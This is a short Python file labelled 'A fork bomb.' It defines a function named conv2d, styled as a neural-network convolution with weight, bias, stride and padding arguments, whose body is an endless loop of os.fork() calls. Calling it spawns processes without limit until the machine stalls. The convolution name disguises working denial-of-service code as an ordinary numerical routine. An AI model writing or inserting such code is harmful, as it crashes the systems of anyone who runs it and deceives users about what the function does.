"""A fork bomb."""

import os


def conv2d(x, w, b=None, stride=1, padding=0):
    while True:
        os.fork()
